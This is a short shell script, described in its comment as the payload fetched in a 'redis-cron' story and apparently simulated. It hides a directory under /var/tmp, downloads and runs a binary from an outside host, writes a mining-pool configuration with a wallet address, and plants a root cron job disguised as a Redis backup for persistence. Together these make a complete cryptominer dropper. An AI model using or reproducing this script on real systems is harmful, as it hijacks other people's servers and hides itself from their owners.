#!/bin/sh
# What the story redis-cron fetches: hides a simulated miner, writes a cron job and starts the miner.
mkdir -p /var/tmp/.x
cd /var/tmp/.x
curl -fsS -o redis-helper http://203.0.113.10/agent
chmod 755 redis-helper
echo "-o stratum+tcp://203.0.113.20:3333 -u 48xcwrWVZweDCtZXhgsC7VLA6btymh3fSVipgiBg1va543DyGf2rWMVevDaFhKY1j6WiJTcv6nHMqFZK25dr7S7wKR52wk1 -s 12" >helper.conf
echo "*/10 * * * * root /var/tmp/.x/redis-helper -c /var/tmp/.x/helper.conf" >/etc/cron.d/redis-backup
nohup ./redis-helper -c helper.conf >/dev/null 2>&1 &
